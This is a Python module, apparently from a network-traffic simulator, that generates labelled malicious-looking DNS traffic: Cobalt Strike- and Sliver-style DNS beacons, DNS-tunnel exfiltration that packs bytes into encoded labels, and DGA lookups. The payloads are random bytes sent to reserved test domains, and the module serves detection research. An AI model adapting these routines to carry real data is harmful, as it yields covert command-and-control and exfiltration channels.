# SPDX-License-Identifier: GPL-3.0-or-later
"""Harm in DNS queries. To a name server of our own: beacons as Cobalt Strike and Sliver have them, and files cut into
labels. To the site's resolver: names that an algorithm makes up, as bots look for their master.

Varied per session: types, alphabets, lengths of labels, EDNS, sockets (a new one each time or a few queries a socket), how
names are made, pauses."""
import contextlib
import random

from ..behaviour import threat
from . import c2, dns_wire

ZONES = ("cdn-{}.example", "ns1.{}.example", "t.{}.example", "{}.example", "stat.{}.test")


def zone(rng):
    return rng.choice(ZONES).format("".join(rng.choice("abcdefghiklmnoprstuvw") for _ in range(rng.randrange(3, 12))))


def name_server(me, reply):
    """`reply(labels, kind, rng)` gives the data of the answer's records."""
    own = random.Random(me.rng.random())

    def answer(message):
        with contextlib.suppress(ValueError):
            labels, kind, _ = dns_wire.question(message)
            return dns_wire.answer(message, reply(labels, kind, own), ttl)
        return None

    ttl = me.rng.choice((0, 1, 5, 60))
    hosts = c2.spare(me, 53, "udp") or [c2.far(me)]
    return c2.datagram_server(me, answer, (53,) if me.rng.random() < 0.8 else (53, 5353, 5300, 8053), me.rng.choice(hosts))


def ask(talk, message, times=3):
    for _ in range(times):
        talk.send(message)
        with contextlib.suppress(TimeoutError):
            while (said := talk.recv(4096))[:2] != message[:2]:
                pass
            return said
    return b""


@threat("beacon_dns", family="beacon", seconds=(110, 230))
def beacon_dns(me):
    rng = me.rng
    domain, edns, alphabet = zone(rng), rng.random() < 0.5, rng.choice(("hex", "base32"))
    channel = rng.choice((dns_wire.TXT, dns_wire.AAAA, dns_wire.A, dns_wire.NULL, dns_wire.CNAME, dns_wire.MX))
    poll = rng.choice((dns_wire.A, dns_wire.A, dns_wire.AAAA, dns_wire.TXT))
    piece = rng.choice((60, 120, 180, 220))  # bytes of a task in one TXT or NULL record
    ident, reuse = rng.randbytes(4).hex(), rng.random() < 0.25
    sequence = rng.choice((0, 4, 12))

    def reply(labels, kind, own):
        count = piece if kind in (dns_wire.TXT, dns_wire.NULL) and len(labels[0]) > 8 else 16
        return [dns_wire.record(own, kind, own.randbytes(count))]

    service = name_server(me, reply)
    for sleep, task in c2.rhythm(me):
        with contextlib.ExitStack() as stack, contextlib.suppress(*c2.BROKEN):
            talk = stack.enter_context(me.datagrams(service, timeout=2))
            word = f"{rng.randbytes(sequence).hex()}.{ident}" if sequence else ident
            ask(talk, dns_wire.query(rng, f"{word}.{domain}", poll, edns))
            for _ in range(rng.randrange(2, 10) if task else 0):  # fetches what to do, then tells what came of it
                if not reuse:
                    stack.close()
                    talk = stack.enter_context(me.datagrams(service, timeout=2))
                down = rng.random() < 0.5
                secret = rng.randbytes(8 if down else rng.randrange(20, 110))
                ask(talk, dns_wire.query(rng, dns_wire.labels(secret, f"{ident}.{domain}", 60, alphabet),
                                         channel if down else poll, edns))
                me.sleep(rng.uniform(0.05, 0.4))
        me.sleep(sleep)


@threat("exfil_dns", family="exfiltration", seconds=(80, 200))
def exfil_dns(me):
    rng = me.rng
    domain, edns, alphabet = zone(rng), rng.random() < 0.4, rng.choice(("base32", "base32", "hex"))
    kind = rng.choice((dns_wire.A, dns_wire.A, dns_wire.TXT, dns_wire.NULL, dns_wire.AAAA))
    longest = rng.choice((20, 32, 48, 62))
    share = rng.choice((20, 40, 70, 120))  # bytes of the file in one query
    service = name_server(me, lambda labels, asked, own: [dns_wire.record(own, asked, own.randbytes(own.choice((4, 8))))])
    left = 400  # sockets at most
    each = rng.choice((1, 1, 3, 12))  # queries a socket
    gap = rng.uniform(0.1, 0.8) / (1 if each < 4 else 3)
    while not me.over() and left:
        for _ in range(rng.randrange(8, 60) // each + 1):  # one file
            left -= 1
            with contextlib.suppress(*c2.BROKEN), me.datagrams(service, timeout=2) as talk:
                for number in range(each):
                    secret = rng.randbytes(rng.randrange(share * 3 // 4, share + 1))
                    name = f"{number}.{dns_wire.labels(secret, domain, longest, alphabet)}"
                    ask(talk, dns_wire.query(rng, name, kind, edns))
                    me.sleep(rng.expovariate(1 / gap) if rng.random() < 0.7 else 0)
            if not left or me.over():
                break
        me.sleep(rng.uniform(1, 10))


@threat("dga_lookups", family="lookups", needs=("dns",), seconds=(80, 200))
def dga_lookups(me):
    """Names that an algorithm makes, most of which nobody has registered: by letters, by hexadecimal digits or by words."""
    rng = me.rng
    resolver = me.choose("dns")
    words = ("time", "river", "cloud", "green", "table", "north", "paper", "stone", "light", "house", "value", "market")
    way = rng.choice(("letters", "hex", "words"))
    top = rng.choice((("com", "net", "org", "info", "biz"), ("ru", "cc", "top", "xyz"), ("com",)))
    length, both, edns = rng.randrange(7, 24), rng.random() < 0.4, rng.random() < 0.3
    gap, lots = rng.uniform(0.05, 0.9), 350
    while not me.over() and lots > 0:
        for _ in range(rng.randrange(20, 90)):
            count = rng.randrange(length - 3, length + 4)
            label = {"letters": "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(count)),
                     "hex": rng.randbytes((length + 1) // 2).hex(),
                     "words": "".join(rng.sample(words, rng.randrange(2, 4)))}[way]
            with contextlib.suppress(*c2.BROKEN), me.datagrams(resolver, timeout=2) as talk:
                for kind in (dns_wire.A, dns_wire.AAAA)[:1 + both]:
                    ask(talk, dns_wire.query(rng, f"{label}.{rng.choice(top)}", kind, edns), 2)
            lots -= 1
            me.sleep(rng.expovariate(1 / gap))
        me.sleep(rng.uniform(2, 14))


EVIDENCE = {
    "beacon_dns": ("answered queries", lambda flow: flow.protocol == 17 and min(flow.packets) >= 1, 15),
    "exfil_dns": ("answered queries with long names",
                  lambda flow: flow.protocol == 17 and min(flow.packets) >= 1 and flow.bytes[0] > flow.packets[0] * 75, 15),
    "dga_lookups": ("answered queries to the resolver",
                    lambda flow: flow.protocol == 17 and flow.dport == 53 and min(flow.packets) >= 1, 20),
}
